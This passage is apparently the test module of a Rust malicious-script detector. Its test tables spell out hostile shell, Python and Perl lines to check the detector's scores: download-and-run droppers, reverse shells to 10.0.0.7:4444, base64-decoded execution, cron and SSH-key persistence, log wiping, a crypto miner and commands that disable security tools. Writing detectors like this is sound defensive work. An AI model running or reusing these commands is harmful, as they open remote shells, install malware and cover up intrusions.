            b"a",
        ];
        for bytes in text {
            assert!(looks_like_text(bytes), "{bytes:?}");
        }
        let binary: &[&[u8]] = &[
            b"",
            b"\x7fELF\x02\x01\x01\x00",
            b"\xa7\r\r\n\x00\x00\x00\x00",
            b"PK\x03\x04\x14\x00",
            b"h\x00e\x00l\x00l\x00o\x00",
            b"\x01\x02\x03 some text after control bytes",
        ];
        for bytes in binary {
            assert!(!looks_like_text(bytes), "{bytes:?}");
        }
        // Control bytes past the first TEXT_SNIFF_LEN do not count.
        let mut long = vec![b'x'; TEXT_SNIFF_LEN];
        long.extend_from_slice(&[0, 1, 2, 3]);
        assert!(looks_like_text(&long));
    }

    #[test]
    fn prose_with_a_pipe_and_a_full_stop_is_not_a_pipe_into_source() {
        // Vim's help (pi_netrw.txt): `|tag|.` is a link followed by a full stop.
        let prose = "in |netrw-start|.  these include dav, fetch, http,... well, just look";
        assert!(!pipes_into_interpreter(prose));
        assert!(pipes_into_interpreter("curl -s http://x/a | . /dev/stdin"));
        assert!(pipes_into_interpreter("wget -qo- http://x/a | sh"));
    }

    #[test]
    fn a_script_without_a_shebang_is_analyzed_as_one() {
        let bytes = b"cd /tmp; wget http://203.0.113.9/bins/x86 -O x; chmod +x x; ./x; rm -f x\n\
            wget http://203.0.113.9/bins/arm -O a; chmod +x a; ./a; rm -f a\n\
            wget http://203.0.113.9/bins/mips -O m; chmod +x m; ./m; rm -f m\n";
        let with = crate::heuristics::analyze(&[b"#!/bin/sh\n".as_slice(), bytes].concat());
        let without = crate::heuristics::analyze(bytes);
        assert!(!with.is_empty());
        assert_eq!(
            with.iter().map(|r| (&r.id, r.score)).collect::<Vec<_>>(),
            without.iter().map(|r| (&r.id, r.score)).collect::<Vec<_>>()
        );
    }

    /// Assembles a script at run time so no complete sample sits in the source.
    fn script(shebang: &str, body: &[&str]) -> Vec<u8> {
        let mut text = format!("#!{shebang}\n");
        for line in body {
            text.push_str(line);
            text.push('\n');
        }
        text.into_bytes()
    }

    fn found(shebang: &str, body: &[&str]) -> Vec<(String, u32)> {
        let bytes = script(shebang, body);
        assert_eq!(
            analyze(&bytes),
            analyze_where(&bytes, false),
            "the anchor pre-filter changed the result of {body:?}"
        );
        analyze(&bytes)
            .into_iter()
            .map(|reason| (reason.id, reason.score))
            .collect()
    }

    #[test]
    fn behaviours_table() {
        let host = ["10", "0", "0", "7"].join(".");
        let dev_tcp = format!("/dev/{}/{host}/4444", "tcp");
        let b64 = ["base64", "-d"].join(" ");
        type Case<'a> = (&'a str, Vec<String>, &'a [(&'a str, u32)]);
        let cases: Vec<Case> = vec![
            (
                "curl piped to sh",
                vec!["curl -fsSL https://example.invalid/i.sh | sh".into()],
                &[("script.download_exec", 60)],
            ),
            (
                "wget -O- piped to sudo bash from an IP",
                vec![format!("wget -q -O- http://{host}/x | sudo bash")],
                &[("script.download_exec", 80)],
            ),
            (
                "eval of a download",
                vec!["eval \"$(curl -s https://example.invalid/env)\"".into()],
                &[("script.download_exec", 60)],
            ),
            (
                "continued line",
                vec![
                    "curl -s https://example.invalid/x \\".into(),
                    "  | bash -s -- --yes".into(),
                ],
                &[("script.download_exec", 60)],
            ),
            (
                "mirai-style dropper",
                vec![
                    "cd /tmp || cd /var/run".into(),
                    format!("wget http://{host}/bins/x86; chmod 777 x86; ./x86 x86"),
                    format!("wget http://{host}/bins/arm; chmod 777 arm; ./arm arm"),
                    "./x86".into(),
                ],
                &[("script.download_exec", 70)],
            ),
            (
                "bins.sh dropper: fetch, run and delete each build",
                ["ntpd", "sshd", "openssh", "bash", "tftp"]
                    .iter()
                    .map(|name| {
                        format!(
                            "cd /tmp || cd /var/run || cd /; wget http://{host}/{name}; chmod +x {name}; ./{name}; rm -rf {name}"
                        )
                    })
                    .collect(),
                &[("script.download_exec", 100)],
            ),
            (
                "tftp dropper: each build fetched from an IP and run in turn",
                ["ntpd", "sshd", "openssh", "bash", "tftp"]
                    .iter()
                    .map(|name| {
                        format!(
                            "cd /tmp || cd /; tftp {host} -c get {name};cat {name} >box;chmod +x *;./box"
                        )
                    })
                    .collect(),
                &[("script.download_exec", 100)],
            ),
            (
                "multi-architecture loop",
                vec![
                    "server=\"dl.example.invalid\"".into(),
                    "bins=\"m.arm m.arm7 m.mips m.mpsl m.x86\"".into(),
                    "for b in $bins; do".into(),
                    "wget http://$server/$b -O helper; chmod 777 helper; ./helper".into(),
                    "done".into(),
                ],
                &[("script.download_exec", 80)],
            ),
            (
                "installer runs and removes one temporary copy",
                vec![
                    "curl -fsSLo /tmp/setup https://example.invalid/setup".into(),
                    "chmod +x /tmp/setup && /tmp/setup --yes && rm -f /tmp/setup".into(),
                ],
                &[("script.download_exec", 50)],
            ),
            (
                "bash reverse shell",
                vec![format!("bash -i >& {dev_tcp} 0>&1")],
                &[("script.reverse_shell", 100)],
            ),
            (
                "dev tcp probe only",
                vec![format!("echo > {dev_tcp} && echo open")],
                &[("script.reverse_shell", 30)],
            ),
            (
                "nc -e",
                vec![format!("nc -e /bin/sh {host} 4444")],
                &[("script.reverse_shell", 100)],
            ),
            (
                "mkfifo nc",
                vec![format!(
                    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {host} 4444 > /tmp/f"
                )],
                &[("script.reverse_shell", 100)],
            ),
            (
                "socat exec",
                vec![format!("socat tcp:{host}:4444 exec:'bash -li',pty,stderr")],
                &[("script.reverse_shell", 100)],
            ),
            (
                "base64 into bash",
                vec![format!("echo ZWNobyBoaQo= | {b64} | bash")],
                &[("script.decode_exec", 70)],
            ),
            (
                "eval of decoded text",
                vec![format!("eval \"$(echo ZWNobyBoaQo= | {b64})\"")],
                &[("script.decode_exec", 70)],
            ),
            (
                "cron and authorized_keys",
                vec![
                    "(crontab -l; echo '* * * * * /tmp/.x') | crontab -".into(),
                    "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys".into(),
                ],
                &[("script.persistence", 50)],
            ),
            (
                "crontab from stdin",
                vec!["crontab - < /tmp/.c".into()],
                &[("script.persistence", 40)],
            ),
            (
                "ld.so.preload",
                vec!["echo /usr/lib/libx.so > /etc/ld.so.preload".into()],
                &[("script.persistence", 90)],
            ),
            (
                "chattr",
                vec!["chattr +i /etc/passwd".into()],
                &[("script.chattr_immutable", 40)],
            ),
            (
                "history and logs",
                vec!["history -c".into(), "cat /dev/null > /var/log/wtmp".into()],
                &[("script.history_wipe", 60)],
            ),
            (
                "miner",
                vec!["./xmrig -o stratum+tcp://pool.example.invalid:3333 -u x".into()],
                &[("script.miner", 80)],
            ),
            (
                "kill competitors",
                vec![
                    "pkill -f kdevtmpfsi".into(),
                    "killall -9 xmrig minerd".into(),
                ],
                &[("script.miner", 40), ("script.kill_competitors", 60)],
            ),
            (
                "disable security",
                vec![
                    "setenforce 0".into(),
                    "systemctl stop aegis".into(),
                    "rm -rf /usr/local/qcloud".into(),
                ],
                &[("script.disable_security", 70)],
            ),
        ];
        for (name, body, want) in cases {
            let body: Vec<&str> = body.iter().map(String::as_str).collect();
            let got = found("/bin/sh", &body);
            let want: Vec<(String, u32)> = want
                .iter()
                .map(|&(id, score)| (id.to_owned(), score))
                .collect();
            assert_eq!(got, want, "{name}");
        }
    }

    #[test]
    fn ordinary_scripts_are_quiet() {
        let cases: &[(&str, &[&str])] = &[
            (
                "comment only",
                &["# curl https://x | sh  is how NOT to install"],
            ),
            (
                "json through python -c",
                &[
                    "curl -s https://api.example.invalid | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
                ],
            ),
            (
                "json.tool",
                &["wget -qO- https://x.invalid/a.json | python3 -m json.tool"],
            ),
            (
                "crontab listing",
                &["crontab -l | grep backup", "crontab -e"],
            ),
            (
                "crontab path in a perl list",
                &["my @cmd = ('/usr/bin/crontab');"],
            ),
            (
                "download to file",
                &["curl -o /var/cache/x.tar.gz https://example.invalid/x.tar.gz"],
            ),
            ("base64 decode to a file", &["base64 -d key.b64 > key.bin"]),
            (
                "read authorized_keys",
                &["grep -c ssh- ~/.ssh/authorized_keys"],
            ),
            (
                "kill own daemon",
                &["kill -TERM $(cat /run/foo.pid)", "pkill -f myservice"],
            ),
            ("systemctl enable", &["systemctl enable --now foo.service"]),
            ("or-or", &["test -x /usr/bin/curl || exit 0"]),
        ];
        for &(name, body) in cases {
            assert_eq!(
                found("/bin/sh", body),
                Vec::<(String, u32)>::new(),
                "{name}"
            );
        }
    }

    #[test]
    fn python_and_perl() {
        let connect = ["s.connect((\"10.0.0.7\",", "4444))"].join("");
        let cases: Vec<(&str, Vec<String>, &str)> = vec![
            (
                "/usr/bin/python3",
                vec![
                    "import socket,os,pty".into(),
                    "s=socket.socket()".into(),
                    connect,
                    "[os.dup2(s.fileno(),f) for f in (0,1,2)]".into(),
                    "pty.spawn(\"/bin/bash\")".into(),
                ],
                "script.reverse_shell",
            ),
            (
                "/usr/bin/python3",
                vec![
                    "import base64".into(),
                    "exec(base64.b64decode(b'cHJpbnQoMSk='))".into(),
                ],
                "script.decode_exec",
            ),
            (
                "/usr/bin/perl",
                vec![
                    "use MIME::Base64;".into(),
                    "eval decode_base64('cHJpbnQgMQ==');".into(),
                ],
                "script.decode_exec",
            ),
        ];
        for (shebang, body, want) in cases {
            let body: Vec<&str> = body.iter().map(String::as_str).collect();
            let got = found(shebang, &body);
            assert!(
                got.iter().any(|(id, _)| id == want),
                "{shebang} {want}: {got:?}"
            );
        }
    }

    #[test]
    fn helpers_table() {
        let words = [
            ("curl -s x", "curl", true),
            ("/usr/bin/curl", "curl", true),
            ("libcurl-dev", "curl", false),
            ("xmrig-6.0", "xmrig", false),
            ("", "x", false),
        ];
        for (line, word, want) in words {
            assert_eq!(has_word(line, word), want, "{line:?} {word:?}");
        }
        let writes = [
            ("echo x >> ~/.ssh/authorized_keys", "authorized_keys", true),
            ("echo x >\"/etc/rc.local\"", "/etc/rc.local", true),
            ("cat /etc/rc.local", "/etc/rc.local", false),
            ("cp x /etc/cron.d/job", "/etc/cron.d/", true),
            (
                "echo x | tee -a /etc/ld.so.preload",
                "/etc/ld.so.preload",
                true,
            ),
            ("echo x >\u{3000}/etc/rc.local", "/etc/rc.local", true),
            ("echo x\u{3000}/etc/rc.local", "/etc/rc.local", false),
        ];
        for (line, target, want) in writes {
            assert_eq!(writes_to(line, target), want, "{line:?}");
        }
        let ips = [
            ("http://1.2.3.4/x", true),
            ("https://example.invalid/1.2.3.4", false),
            ("http://1.2.3/x", false),
        ];
        for (line, want) in ips {
            assert_eq!(has_ip_url(line), want, "{line:?}");
        }
    }

    #[test]
    fn random_text_never_panics() {
        // Pieces of the patterns above, multi-byte characters and separators, shuffled.
        let pieces = [
            "curl ",
            "| sh",
            "|",
            "||",
            "\\\n",
            "\n",
            ">",
            ">>",
            "/dev/tcp/",
            "nc -e ",
            "base64 -d",
            "eval ",
            "crontab",
            "-",
            "chattr +i",
            "\u{3000}",
            "é",
            "\u{1f600}",
            "'",
            "\"",
            "$(",
            "`",
            "://",
            "1.2.3.4",
            "stratum+tcp://",
            "kill ",
            "xmrig",
            "authorized_keys",
            ".connect((",
            "dup2(",
            "fileno()",
            "#",
            " ",
            "wget -qo- ",
            "mkfifo /tmp/f",
            "socat exec:sh tcp:",
            "history -c",
            "/var/log/wtmp",
            "rm ",
            "setenforce 0",
            "systemctl stop aegis",
            "\\x41\\x42",
            "printf ",
            "ncat ",
            "/etc/ld.so.preload",
            ">> /etc/crontab",
            "pkill ",
            "kinsing",
            "unset histfile",
            "exec(",
            "b64decode(",
            "chmod +x ",
            "/tmp/x",
        ];
        let mut state: u64 = 0x2545_f491_4f6c_dd1d;
        for _ in 0..2000 {
            let mut text = String::from("#!/bin/sh\n");
            for _ in 0..40 {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                text.push_str(pieces[(state % pieces.len() as u64) as usize]);
            }
            let found = analyze(text.as_bytes());
            for reason in &found {
                assert!(reason.score <= 100, "{text:?}");
            }
            assert_eq!(found, analyze_where(text.as_bytes(), false), "{text:?}");
        }
    }

    #[test]
    fn size_cap_and_binary_garbage() {
        let mut bytes = b"#!/bin/sh\n".to_vec();
        bytes.extend(std::iter::repeat_n(b'a', SCRIPT_SIZE_CAP));
        bytes.extend_from_slice(b"\nnc -e /bin/sh 10.0.0.7 1\n");
        assert!(analyze(&bytes).is_empty());
        let garbage: Vec<u8> = b"#!\xff\xfe\x00|||\\\n\\".to_vec();
        assert!(analyze(&garbage).is_empty());
    }
}
